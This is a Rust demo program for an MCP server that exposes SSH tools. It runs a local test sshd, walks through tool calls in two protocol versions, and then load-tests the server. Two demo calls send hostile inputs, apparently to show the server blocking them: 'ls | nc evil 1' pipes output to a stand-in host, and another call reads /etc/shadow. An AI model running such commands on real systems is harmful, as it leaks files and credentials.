//! The server's own demo (`scripts/demo`): a real sshd, the real server, and an MCP
//! conversation in both protocol eras, then a short load run. Needs root (the sshd fixture).

use std::time::{Duration, Instant};

use clap::Parser;
use hdrhistogram::Histogram;
use serde_json::{Value, json};
use sshlab_testkit::SshdBuilder;

struct Mcp {
    http: reqwest::Client,
    url: String,
    session: Option<String>,
    /// Stateless clients are told apart (SSH-session ownership, rate limits) by their bearer
    /// token, else by their address: each load worker gets its own token.
    bearer: Option<String>,
}

impl Mcp {
    async fn post(
        &self,
        method: &str,
        mut params: Value,
    ) -> anyhow::Result<(reqwest::header::HeaderMap, Value)> {
        let mut req = self
            .http
            .post(&self.url)
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream");
        if let Some(t) = &self.bearer {
            req = req.bearer_auth(t);
        }
        match &self.session {
            Some(sid) => {
                req = req
                    .header("mcp-session-id", sid)
                    .header("mcp-protocol-version", "2025-11-25")
            }
            None if method != "initialize" => {
                params["_meta"] = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                                         "io.modelcontextprotocol/clientCapabilities": {}});
                req = req
                    .header("mcp-protocol-version", "2026-07-28")
                    .header("mcp-method", method);
                if let Some(n) = params.get("name").and_then(Value::as_str) {
                    req = req.header("mcp-name", n);
                }
            }
            None => {}
        }
        let body = json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params});
        let resp = req.json(&body).send().await?;
        let headers = resp.headers().clone();
        Ok((headers, resp.json().await?))
    }

    async fn call(&self, tool: &str, args: Value) -> anyhow::Result<Value> {
        let (_, v) = self
            .post("tools/call", json!({"name": tool, "arguments": args}))
            .await?;
        Ok(v["result"].clone())
    }
}

fn show(label: &str, v: &Value) {
    let text = v["content"][0]["text"].as_str().unwrap_or_default().trim();
    let flag = if v["isError"] == true {
        "  (isError)"
    } else {
        ""
    };
    println!(
        "  {label:<38} → {}{flag}",
        text.lines().next().unwrap_or_default()
    );
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    println!("== starting a real OpenSSH sshd (testuser/testpass) on a random loopback port");
    let sshd = SshdBuilder::new()
        .password_user("testuser", "testpass")
        .start()?;
    let opts = mcp_ssh_server::Opts::parse_from([
        "mcp-ssh-server",
        "--bind",
        "127.0.0.1:0",
        "--profile",
        "loadtest",
    ]);
    let server = mcp_ssh_server::start(mcp_ssh_server::Config::resolve(&opts)?).await?;
    let url = format!("http://{}/mcp", server.addr);
    println!("== mcp-ssh-server listening on {url} (loadtest profile)\n");
    let http = reqwest::Client::new();
    let target = json!({"host": "127.0.0.1", "port": sshd.port, "user": "testuser", "password": "testpass", "insecure_host_key": true});

    println!("-- 2026-07-28, stateless (no handshake; _meta and headers on every request)");
    let modern = Mcp {
        http: http.clone(),
        url: url.clone(),
        session: None,
        bearer: None,
    };
    let (_, d) = modern.post("server/discover", json!({})).await?;
    println!(
        "  server/discover                        → versions {}",
        d["result"]["supportedVersions"]
    );
    let (_, l) = modern.post("tools/list", json!({})).await?;
    let names: Vec<&str> = l["result"]["tools"]
        .as_array()
        .map(|a| a.iter().filter_map(|t| t["name"].as_str()).collect())
        .unwrap_or_default();
    println!(
        "  tools/list                             → {} tools: {}",
        names.len(),
        names.join(", ")
    );
    let c = modern.call("ssh_connect", target.clone()).await?;
    show("ssh_connect", &c);
    let sid = c["structuredContent"]["session_id"].clone();
    show(
        "ssh_run_command hostname",
        &modern
            .call(
                "ssh_run_command",
                json!({"session_id": sid, "command": "hostname"}),
            )
            .await?,
    );
    show(
        "ssh_run_command cat /etc/hostname",
        &modern
            .call(
                "ssh_run_command",
                json!({"session_id": sid, "command": "cat /etc/hostname"}),
            )
            .await?,
    );
    show(
        "ssh_run_command 'ls | nc evil 1'",
        &modern
            .call(
                "ssh_run_command",
                json!({"session_id": sid, "command": "ls | nc evil 1"}),
            )
            .await?,
    );
    show(
        "ssh_cat_file /etc/shadow",
        &modern
            .call(
                "ssh_cat_file",
                json!({"session_id": sid, "path": "/etc/shadow"}),
            )
            .await?,
    );
    show(
        "ssh_disconnect",
        &modern
            .call("ssh_disconnect", json!({"session_id": sid}))
            .await?,
    );

    println!("\n-- 2025-11-25, with initialize and Mcp-Session-Id");
    let mut legacy = Mcp {
        http: http.clone(),
        url: url.clone(),
        session: None,
        bearer: None,
    };
    let (h, i) = legacy
        .post("initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "demo", "version": "0"}}))
        .await?;
    legacy.session = h
        .get("mcp-session-id")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    println!(
        "  initialize                             → {} , session {}",
        i["result"]["protocolVersion"],
        legacy.session.as_deref().unwrap_or("?")
    );
    let c = legacy.call("ssh_connect", target.clone()).await?;
    show("ssh_connect (pooled connection reused)", &c);
    let sid = c["structuredContent"]["session_id"].clone();
    show(
        "ssh_batch_commands",
        &legacy
            .call(
                "ssh_batch_commands",
                json!({"session_id": sid, "commands": ["whoami", "id"]}),
            )
            .await?,
    );
    show(
        "ssh_pool_stats",
        &legacy.call("ssh_pool_stats", json!({})).await?,
    );

    let workers = 8;
    let secs = 5;
    println!(
        "\n-- load: {workers} workers × ssh_run_command(hostname) for {secs} s, one session and bearer token each"
    );
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut tasks = Vec::new();
    for w in 0..workers {
        let m = Mcp {
            http: http.clone(),
            url: url.clone(),
            session: None,
            bearer: Some(format!("demo-worker-{w}")),
        };
        let target = target.clone();
        tasks.push(tokio::spawn(async move {
            let mut h = Histogram::<u64>::new_with_bounds(1, 60_000_000, 3).expect("histogram");
            let mut errors = 0u64;
            let sid = m
                .call("ssh_connect", target)
                .await
                .ok()
                .map(|c| c["structuredContent"]["session_id"].clone());
            let Some(sid) = sid else { return (h, 1) };
            while Instant::now() < deadline {
                let t = Instant::now();
                match m
                    .call(
                        "ssh_run_command",
                        json!({"session_id": sid, "command": "hostname"}),
                    )
                    .await
                {
                    Ok(r) if r["isError"] == false => {
                        h.saturating_record(t.elapsed().as_micros() as u64)
                    }
                    _ => {
                        errors += 1;
                        tokio::time::sleep(Duration::from_millis(50)).await;
                    }
                }
            }
            let _ = m.call("ssh_disconnect", json!({"session_id": sid})).await;
            (h, errors)
        }));
    }
    let mut all = Histogram::<u64>::new_with_bounds(1, 60_000_000, 3)?;
    let mut errors = 0;
    for t in tasks {
        let (h, e) = t.await?;
        all.add(h)?;
        errors += e;
    }
    println!(
        "  {} commands, {:.0}/s, p50 {:.1} ms, p99 {:.1} ms, {errors} errors",
        all.len(),
        all.len() as f64 / secs as f64,
        all.value_at_quantile(0.5) as f64 / 1000.0,
        all.value_at_quantile(0.99) as f64 / 1000.0
    );
    let metrics = http
        .get(format!("http://{}/metrics", server.addr))
        .send()
        .await?
        .text()
        .await?;
    println!("\n-- /metrics (excerpt)");
    for l in metrics.lines().filter(|l| {
        l.starts_with("mcp_pool_")
            || l.starts_with("mcp_ssh_commands_total")
            || l.starts_with("mcp_ssh_commands_blocked")
    }) {
        println!("  {l}");
    }
    server.stop().await?;
    Ok(())
}
